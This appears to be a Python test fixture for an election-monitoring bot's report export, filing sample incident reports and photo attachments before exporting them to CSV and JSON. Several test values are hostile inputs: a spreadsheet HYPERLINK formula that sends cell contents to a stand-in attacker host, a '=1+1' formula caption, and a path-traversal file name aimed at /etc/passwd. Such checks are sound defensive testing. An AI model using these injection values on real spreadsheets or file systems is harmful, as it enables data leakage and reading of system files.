"""A small mission to export: reports of every awkward kind, files kept, on their way, too big and gone."""

import csv
import io
import json
from dataclasses import dataclass, field, replace
from datetime import UTC, datetime, timedelta
from itertools import count
from pathlib import Path
from typing import Any
from uuid import UUID, uuid5

from bot.cases.export import Exported, ExportFormat, NothingToExport, export_reports
from bot.cases.forms import FormLibrary
from bot.core.incidents import facts_of
from bot.core.words import CameAs, FetchState
from storage import attachments, forms, reports, stations
from storage.attachments import Findings, NewAttachment
from storage.database import Database
from storage.media import MediaFolder
from storage.reports import Filter, NewReport

DAY = datetime(2021, 1, 10, tzinfo=UTC)
NOW = DAY + timedelta(hours=20)
SPACE = UUID("6f1b1f9e-6f8c-4b6e-9b3e-0a2d2f6f7c11")
JPEG = b"\xff\xd8\xff\xe0 a photograph, as far as its first bytes go \xff\xd9"
PDF = b"%PDF-1.7 a protocol"

KETTLING = {
    "category_group": "liberty",
    "category": "kettling",
    "severity": "critical",
    "basis": "saw_myself",
    "phase": "post_election",
    "occurred_at": "2021-01-10T13:00:00.000+06:00",
    "description": "Белсенділерді алаңда қоршап алды,\nбес сағат жібермеді. Аяз.",
    "held_from": "40",
    "temperature": "-15",
    "who_did_it": "police unknown_men",
    "place": "-43.238 76.945 0 12.5",
    "station": "001",
}
DENIED = {
    "category_group": "observer_rights",
    "category": "observer_entry_denied",
    "severity": "high",
    "basis": "witness",
    "phase": "opening",
    "occurred_at": "2021-01-10T07:05:00.000+05:00",
    "description": '=HYPERLINK("http://evil.example/?"&A1;"open")',
    "station": "002",
}
LATE = {"category": "seals_violated", "severity": "high", "phase": "opening", "description": "+7 701 000 00 00"}


@dataclass
class Mission:
    database: Database
    media: MediaFolder
    folder: Path
    library: FormLibrary = field(default_factory=FormLibrary)
    numbers: "count[int]" = field(default_factory=lambda: count(100))
    regions: dict[str, int] = field(default_factory=dict)
    person: int = 0

    def report(self, answers: dict[str, str], region: str = "Алматы", at: datetime = DAY, **facts: Any) -> NewReport:
        """File a report on the current incident form; `facts` override what follows from the answers."""
        number = next(self.numbers)
        found = facts_of(answers)
        with self.database.transaction() as tx:
            version = forms.current_version(tx, "incident")
            place = stations.by_code(tx, found.station or "")
            assert version is not None
            new = NewReport(
                id=uuid5(SPACE, str(number)),
                code=f"{number}-{number}",
                form_version_id=version,
                reported_by=self.person,
                entered_by=self.person,
                channel="chat",
                station_id=place.id if place else None,
                region_id=place.region_id if place else self.regions[region],
                category=found.category,
                severity=found.severity,
                basis=found.basis,
                phase=found.phase,
                description=found.description,
                occurred_at=found.occurred_at,
                sent_at=at,
                received_at=at + timedelta(seconds=1),
                late=False,
                practice=False,
                verification="unverified",
                follow_up="needs_follow_up",
            )
            new = replace(new, **facts)
            reports.add(tx, new, answers)
        return new

    def attach(self, report: NewReport, content: bytes | None, state: FetchState = FetchState.PENDING) -> UUID:
        """A file sent as a photograph; without content it is not with us, for the reason `state`."""
        return self.attach_to(report.id, content, state, report.reported_by, report.sent_at)

    def attach_to(
        self, report_id: UUID, content: bytes | None, state: FetchState, person: int, at: datetime = DAY
    ) -> UUID:
        number = next(self.numbers)
        attachment = uuid5(SPACE, f"attachment {number}")
        with self.database.transaction() as tx:
            attachments.add(tx, _new_attachment(attachment, report_id, person, at, number))
            if content is not None:
                blob = self.media.keep_bytes(content)
                attachments.kept(tx, attachment, blob.sha256, blob.size, at + timedelta(seconds=1))
                attachments.inspected(tx, attachment, Findings("ok", {"width": 4, "format": "JPEG", "height": 3}))
            elif state is not FetchState.PENDING:
                attachments.not_kept(tx, attachment, state)
        return attachment

    def try_export(self, format: str, wanted: Filter | None = None, **more: Any) -> Exported | NothingToExport:
        out = more.pop("out", self.folder / f"export.{format}")
        now = more.pop("now", NOW)
        kind = ExportFormat(format)
        return export_reports(self.database, self.library, self.media, wanted or Filter(), kind, out, now, **more)

    def export(self, format: str, wanted: Filter | None = None, **more: Any) -> Exported:
        made = self.try_export(format, wanted, **more)
        assert isinstance(made, Exported)
        return made

    def rows(self, wanted: Filter | None = None) -> list[dict[str, str]]:
        content = self.export("csv", wanted).path.read_bytes().decode("utf-8-sig")
        return list(csv.DictReader(io.StringIO(content, newline="")))

    def objects(self, wanted: Filter | None = None) -> list[dict[str, Any]]:
        content = self.export("json", wanted).path.read_bytes().decode()
        return [json.loads(line) for line in content.split("\n")[:-1]]


def _new_attachment(attachment: UUID, report_id: UUID, person: int, at: datetime, number: int) -> NewAttachment:
    return NewAttachment(
        id=attachment,
        report_id=report_id,
        person_id=person,
        came_as=CameAs.PHOTO,
        caption="=1+1",
        mime="image/jpeg",
        file_name="../../etc/passwd\n.jpg",
        declared_size=25_000_000,
        sent_at=at,
        received_at=at + timedelta(seconds=1),
        album=None,
        fetch_state=FetchState.PENDING,
        bot_id=1,
        file_id=f"file {number}",
        file_unique_id=str(number),
    )
